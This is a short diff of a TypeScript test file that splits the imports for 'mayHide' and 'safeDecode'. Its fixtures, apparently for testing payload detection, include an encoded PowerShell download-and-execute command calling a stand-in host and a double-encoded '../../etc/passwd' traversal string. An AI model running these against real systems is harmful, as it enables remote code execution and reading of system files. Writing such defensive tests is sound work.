@@ -1,6 +1,7 @@
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
-import { mayHide, safeDecode } from './safe-decode.ts';
+import { mayHide } from './may-hide.ts';
+import { safeDecode } from './safe-decode.ts';
 
 const powershell = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x.example/a")', 'utf16le').toString('base64');
 const url = encodeURIComponent(encodeURIComponent('../../etc/passwd'));
